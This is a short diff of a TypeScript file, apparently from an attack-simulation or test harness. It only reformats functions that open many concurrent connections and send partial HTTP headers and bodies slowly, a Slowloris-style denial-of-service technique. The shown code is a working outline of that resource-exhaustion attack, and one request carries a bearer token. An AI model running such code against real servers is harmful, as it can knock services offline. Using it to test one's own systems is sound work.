@@ -42,14 +42,18 @@ const makeSettingsHead = (attacker: Attacker) =>
   `POST /user/settings HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${attacker.bearer}\r\nContent-Type: application/json\r\n`;
 
 async function slowBodies(attacker: Attacker): Promise<void> {
-  const origins = getOrigins(attacker).flatMap((origin) => Array.from({ length: CONCURRENT_CONNECTIONS }, () => origin));
+  const origins = getOrigins(attacker).flatMap((origin) =>
+    Array.from({ length: CONCURRENT_CONNECTIONS }, () => origin),
+  );
   await Promise.all(
     origins.map((origin) => sendSlowly(attacker, origin, `${makeSettingsHead(attacker)}Content-Length: 5000\r\n\r\n`)),
   );
 }
 
 async function slowHeaders(attacker: Attacker): Promise<void> {
-  await Promise.all(getOrigins(attacker).map((origin) => sendSlowly(attacker, origin, 'GET /health HTTP/1.1\r\nX-Tea: ')));
+  await Promise.all(
+    getOrigins(attacker).map((origin) => sendSlowly(attacker, origin, 'GET /health HTTP/1.1\r\nX-Tea: ')),
+  );
 }
 
 async function sendSlowly(attacker: Attacker, origin: string, head: string): Promise<void> {
